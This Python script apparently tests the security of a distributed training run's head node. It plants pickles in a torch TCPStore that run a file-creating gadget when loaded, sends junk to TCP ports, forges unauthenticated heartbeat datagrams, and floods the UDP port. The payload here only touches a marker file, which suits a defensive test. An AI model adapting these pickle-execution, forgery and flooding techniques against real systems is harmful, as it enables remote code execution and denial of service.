"""Attacks the head of a run from another machine, without its secret: stranger.py ADDRESS PORT MARK TCP_PORT...

Writes to the store of the rendezvous pickles that would create the file MARK, sends junk to every TCP port, and sends
forged datagrams and a flood of others to the UDP port of the heartbeats.
"""

import base64
import contextlib
import json
import pickle
import socket
import sys
from datetime import timedelta
from pathlib import Path
from typing import Any

import torch.distributed as dist

JUNK = [b"\xff", b"\0" * 64, b"GET / HTTP/1.0\r\n\r\n", bytes(range(256)) * 8, b"\x80\x04N.", b"[" * 4096]
FLOOD = 100_000
"""Datagrams of the flood, of 200 bytes each."""


class TouchOnRead:
    """Its pickle creates a file when it is read."""

    def __init__(self, file: str) -> None:
        self._file = file

    def __reduce__(self) -> Any:
        return Path.touch, (Path(self._file),)


def write_pickles(address: str, port: int, mark: str) -> None:
    """Put a pickle where torch's rendezvous expects one, and where ours expects JSON."""
    store = dist.TCPStore(address, port, timeout=timedelta(seconds=60))
    evil = pickle.dumps(TouchOnRead(mark))
    run = f"at-{port}"
    store.set(f"torch.rendezvous.{run}", base64.b64encode(evil).decode())
    store.set(f"/torch.rendezvous.{run}", base64.b64encode(evil).decode())
    store.set(f"rendezvous/{run}", base64.b64encode(evil).decode())


def send_junk(address: str, port: int) -> None:
    """Send each piece of junk over a connection of its own."""
    for junk in JUNK:
        with contextlib.suppress(OSError), socket.create_connection((address, port)) as connection:
            connection.sendall(junk)


def send_datagrams(address: str, port: int) -> None:
    """Send forged messages as earlier versions accepted them, and a flood."""
    run = f"at-{port}"
    forged: list[Any] = [
        {"run": run, "node": "node 1 (two)", "code": 2},
        {"run": run, "node": "no number"},
        {"run": run, "node": "node 0 (one)", "silent": {"node 1 (two)": 99}, "failed": ["node 1 (two)"]},
        [1, "two", "0" * 32, "", 1, 2, []],
        None,
        [],
    ]
    with socket.socket(type=socket.SOCK_DGRAM) as out:
        for message in forged:
            for mac in ("", "0" * 64):
                out.sendto(f"{mac}{json.dumps(message)}".encode(), (address, port))
        for number in range(FLOOD):
            out.sendto(json.dumps({"run": run, "node": f"node {number} (x)"}).ljust(200).encode(), (address, port))


if __name__ == "__main__":
    address, rendezvous, mark, *ports = sys.argv[1:]
    write_pickles(address, int(rendezvous), mark)
    for number in ports:
        send_junk(address, int(number))
    send_datagrams(address, int(rendezvous))
    print("done")
